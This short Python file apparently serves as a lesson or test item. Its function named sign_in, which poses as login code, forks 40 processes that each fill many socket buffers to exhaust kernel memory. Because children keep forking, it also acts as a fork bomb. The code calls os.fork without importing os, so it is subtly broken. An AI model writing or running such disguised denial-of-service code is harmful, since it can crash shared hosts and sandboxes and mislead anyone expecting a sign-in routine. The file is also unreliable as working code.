"""Fills what waits in sockets, in many processes: memory that is the kernel's.

lesson: start_here
expects: 0
says: megabytes of memory
"""

# cell: sign_in
import socket
import time

HELD = []


def fill():
    for _ in range(110):
        HELD.append(socket.socketpair())
        for end in HELD[-1]:
            end.setblocking(False)
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            try:
                while end.send(bytes(1 << 16)):
                    pass
            except BlockingIOError:
                pass


def sign_in(path, name):
    for _ in range(40):
        if os.fork() == 0:
            fill()
            time.sleep(10)
    time.sleep(4)
    return []
